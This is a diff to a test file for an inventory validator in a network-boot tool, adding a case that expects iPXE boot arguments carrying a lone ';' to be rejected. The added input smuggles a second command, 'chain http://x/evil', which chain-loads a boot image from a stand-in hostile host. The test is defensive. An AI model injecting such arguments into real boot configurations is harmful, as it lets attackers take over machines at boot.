@@ -117,6 +117,7 @@ const INVENTORIES: Expected[] = [
   { name: 'nodes: that is not a list', file: 'nodes.yaml', text: 'nodes: 3\n', at: 'nodes.yaml:1:8', code: 'E-INVENTORY' },
   { name: 'a value with a space', file: 'nodes.yaml', text: `nodes:\n  - {name: a, ${P}, vars: {x: "a b"}}\n`, at: 'nodes.yaml:2:5', code: 'E-INVENTORY' },
   { name: "a boot entry with iPXE's &&", file: 'nodes.yaml', text: `nodes:\n  - {name: a, ${P}, boot: {kernel: "http://x/k", initrd: "http://x/i", args: "a && b"}}\n`, at: 'nodes.yaml:2:5', code: 'E-INVENTORY' },
+  { name: "a boot entry with iPXE's lone ;", file: 'nodes.yaml', text: `nodes:\n  - {name: a, ${P}, boot: {kernel: "http://x/k", initrd: "http://x/i", args: "console=ttyS0 ; chain http://x/evil"}}\n`, at: 'nodes.yaml:2:5', code: 'E-INVENTORY' },
   { name: 'a row of the wrong width', file: 'nodes.csv', text: 'name,profile\na,debian-12/containerd,extra\n', at: 'nodes.csv:2:1', code: 'E-INVENTORY' },
   { name: 'a header naming a column twice', file: 'nodes.csv', text: 'name,profile,name\na,debian-12/containerd,b\n', at: 'nodes.csv:1:1', code: 'E-INVENTORY' },
   { name: 'text after a closing quote', file: 'nodes.csv', text: 'name,profile\n"a"x,debian-12/containerd\n', at: 'nodes.csv:2:1', code: 'E-INVENTORY' },
